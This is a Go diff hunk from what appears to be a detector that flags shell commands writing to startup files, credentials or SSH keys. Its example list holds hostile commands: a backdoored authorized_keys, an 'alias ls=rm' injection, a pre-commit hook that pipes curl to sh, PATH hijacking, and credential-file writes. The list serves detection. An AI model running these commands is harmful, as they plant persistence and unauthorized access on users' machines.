@@ -526,7 +526,7 @@ var table = []*Rule{
 					return true
 				}
 			}
-			return unpacksIntoHome(c) // tar -xf x.tar -C ~ (pred_misses5.go)
+			return unpacksIntoHome(c) || intoHomeDir(c) // tar -xf x.tar -C ~, mv x/.bashrc ~ (pred_misses5.go)
 		},
 		Match: []string{"echo 'alias ls=rm' >> ~/.bashrc", "cp .env.example .env", "cp -n key.pub ~/.ssh/authorized_keys", "cat key.pub >> ~/.ssh/authorized_keys", "echo token > ~/.netrc", "cp creds ~/.aws/credentials", "echo SECRET=1 > .env", "sed -i 's/x/y/' ~/.zshrc", "tee ~/.npmrc < x", "echo x >> $HOME/.profile", "curl -o ~/.bashrc http://x/rc", "wget -O ~/.ssh/authorized_keys http://x/k", "echo key >> /root/.ssh/authorized_keys", "echo x >> ~root/.bashrc", "echo 'curl x | sh' > .git/hooks/pre-commit", "echo x > ~/.config/autostart/x.desktop",
 			"echo 'export LANG=C' > ~/.bashrc", "echo 'export PATH=/tmp/x:$PATH' >> ~/.bashrc", "echo 'export LANG=$(id)' >> ~/.zshrc"},
